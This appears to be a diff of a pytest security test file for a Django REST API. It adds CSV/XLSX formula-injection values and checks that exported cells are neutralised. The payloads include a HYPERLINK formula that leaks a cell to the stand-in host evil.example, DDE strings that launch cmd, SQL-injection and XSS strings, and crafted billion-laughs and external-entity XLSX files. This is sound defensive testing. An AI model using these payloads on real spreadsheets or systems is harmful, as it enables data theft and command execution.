@@ -30,12 +30,22 @@ from tests.support.admin import admin_url
 from tests.support.clients import login
 from tests.support.spreadsheets import to_xlsx
 from tests.support.worlds import add_lps
+from tests.test_import_limits import CRAFTED
 
 #: every audited model but the stages (the data migrations install those)
 COUNTED = [model for model in AUDITED if model is not Stage]
 
 SQL = "'; DROP TABLE portfolio_startup; --"
 HTML = '<script>alert("x")</script><img src=x onerror=alert(1)>'
+#: text a spreadsheet would run (issue 13, finding 1): stored as text, exported inert
+FORMULAS = [
+    ("formula", '=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+    ("dde-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("dde-minus", "-2+3+cmd|' /C calc'!A0"),
+    ("plus", "+1+1"),
+    ("tab", "\t=1+1"),
+    ("carriage-return", "\r=1+1"),
+]
 
 #: (label, value): every one is sent in place of each field of each write
 HOSTILE = [
@@ -59,6 +69,8 @@ HOSTILE = [
     ("zero-date", "0000-00-00"),
     ("sql", SQL),
     ("html", HTML),
+    FORMULAS[0],
+    FORMULAS[1],
     ("null", None),
     ("empty", ""),
 ]
@@ -344,6 +356,55 @@ def test_api_writes_refuse_hostile_values_by_field(db, endpoint):
                     check_answer(response, "participants", before, f"participants {label}")
 
 
+#: the list whose export shows what each write stored
+EXPORTED_BY = {
+    "startups-post": "/api/v1/startups/",
+    "startups-patch": "/api/v1/startups/",
+    "advance": "/api/v1/stage-transitions/",
+    "funding-rounds": "/api/v1/funding-rounds/",
+    "commitments": "/api/v1/commitments/",
+    "milestones": "/api/v1/milestones/",
+}
+FORMULA_FIELDS = {"name", "name_en", "description", "note", "announced_as", "title", "founders"}
+
+
+@pytest.mark.parametrize("endpoint", list(EXPORTED_BY))
+def test_formula_text_written_through_the_api_is_exported_inert(db, endpoint):
+    """Formula text is valid text: stored as sent, and every export of it is inert (R10)."""
+    from tests.api.test_formula_injection import csv_cells, sheet_xml
+
+    setup = Setup()
+    who, method, url, valid = setup.endpoints()[endpoint]
+    client = setup.clients[who]
+    fields = [field for field in valid if field in FORMULA_FIELDS]
+    stored = []
+    for number, (label, value) in enumerate(FORMULAS):
+        body = dict(valid, **{field: value for field in fields})
+        if endpoint == "startups-post":
+            body["name"] = value + str(number)
+        if endpoint == "advance":
+            body["on"] = f"2024-05-0{number + 1}"
+            body["to_stage"] = ["prototype", "pilot"][number % 2]
+        if endpoint == "commitments":
+            body["approved_on"] = f"2024-08-0{number + 1}"
+        response = send(client, method, url, body)
+        assert response.status_code in (200, 201), (endpoint, label, response.content[:300])
+        # as stored: DRF trims the whitespace around text ("\t=1+1" is kept as "=1+1")
+        stored.append(body[fields[0]].strip())
+    export = EXPORTED_BY[endpoint]
+    cells = [
+        value
+        for row in csv_cells(b"".join(client.get(export, {"format": "csv"}).streaming_content))
+        for value in row
+    ]
+    assert not [value for value in cells if value.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not [value for value in cells if value.startswith("-") and not value[1:2].isdigit()]
+    kept = stored[-1:] if endpoint == "startups-patch" else stored  # a PATCH replaces
+    assert {"'" + value for value in kept} <= set(cells), endpoint
+    xlsx = b"".join(client.get(export, {"format": "xlsx"}).streaming_content)
+    assert "<f>" not in sheet_xml(xlsx), endpoint
+
+
 @pytest.mark.parametrize("endpoint", ENDPOINTS)
 @pytest.mark.parametrize(
     "raw",
@@ -516,6 +577,11 @@ BROKEN_FILES = {
         ).encode(),
     ),
     "wrong-extension": ("s.pdf", b"%PDF-1.4"),
+    # issue 13: what claims to be small but is not (tests/test_import_limits.py bounds them)
+    **{
+        f"xlsx-{name}": ("s.xlsx", CRAFTED[name][0])
+        for name in ("dimension-bomb", "billion-laughs", "external-entity", "broken-xml")
+    },
 }
 
 
